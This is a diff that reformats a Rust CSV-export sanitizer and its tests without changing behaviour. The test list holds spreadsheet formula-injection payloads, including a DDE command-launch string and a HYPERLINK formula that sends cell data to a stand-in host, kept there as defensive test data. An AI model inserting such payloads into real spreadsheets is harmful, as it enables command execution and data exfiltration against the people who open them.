@@ -51,7 +51,10 @@ fn ends_a_line(c: char) -> bool {
 
 /// Space, quotes, and what is not seen at all.
 fn passed_over(c: char) -> bool {
-    c == '"' || c.is_whitespace() || c.is_control() || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
+    c == '"'
+        || c.is_whitespace()
+        || c.is_control()
+        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
 }
 
 fn quoted(text: &str) -> String {
@@ -98,10 +101,38 @@ mod tests {
     #[test]
     fn no_way_of_cutting_the_file_makes_a_formula_of_words() {
         let nasty = [
-            "=1+1", "+1+1", "-1+1", "@SUM(A1)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u{a0}=1+1", "\u{feff}=1+1",
-            "hej;=1+1", "hej; =1+1", "hej;\"=1+1\"", "hej;\"\"=1+1", "hej,=1+1", "hej\t=1+1", "hej\n=1+1", "hej\r\n@SUM(A1)",
-            "hej\";=1+1", "hej\",=1+1", "\"=1+1", "a;b;c;+1", "hej\u{2028}=1+1", "hej\u{b}=1+1", "＝1+1", "hej;＠SUM(A1)",
-            "=cmd|' /C calc'!A0", "hej;=HYPERLINK(\"http://example.com?\"&A1)", ";;;=1", "\u{200b}=1", "\0=1", "hej|=1",
+            "=1+1",
+            "+1+1",
+            "-1+1",
+            "@SUM(A1)",
+            " =1+1",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            "\u{a0}=1+1",
+            "\u{feff}=1+1",
+            "hej;=1+1",
+            "hej; =1+1",
+            "hej;\"=1+1\"",
+            "hej;\"\"=1+1",
+            "hej,=1+1",
+            "hej\t=1+1",
+            "hej\n=1+1",
+            "hej\r\n@SUM(A1)",
+            "hej\";=1+1",
+            "hej\",=1+1",
+            "\"=1+1",
+            "a;b;c;+1",
+            "hej\u{2028}=1+1",
+            "hej\u{b}=1+1",
+            "＝1+1",
+            "hej;＠SUM(A1)",
+            "=cmd|' /C calc'!A0",
+            "hej;=HYPERLINK(\"http://example.com?\"&A1)",
+            ";;;=1",
+            "\u{200b}=1",
+            "\0=1",
+            "hej|=1",
         ];
         for text in nasty {
             let row = vec![Entry::number(1), Entry::text(text), Entry::text("sist")];
@@ -121,8 +152,16 @@ mod tests {
     #[test]
     fn honest_words_stay_as_they_are() {
         for text in [
-            "Gången under spåret är mörk.", "Kl. 20-22, nästan varje dag; sedan lugnt.", "E-post svaras inte", "2 + 2 = 4",
-            "a@b", "Å, ä och ö", "\"Trygg\" väg", "en rad\noch en till", "12,5 m", "",
+            "Gången under spåret är mörk.",
+            "Kl. 20-22, nästan varje dag; sedan lugnt.",
+            "E-post svaras inte",
+            "2 + 2 = 4",
+            "a@b",
+            "Å, ä och ö",
+            "\"Trygg\" väg",
+            "en rad\noch en till",
+            "12,5 m",
+            "",
         ] {
             assert_eq!(no_formula(text), text);
         }
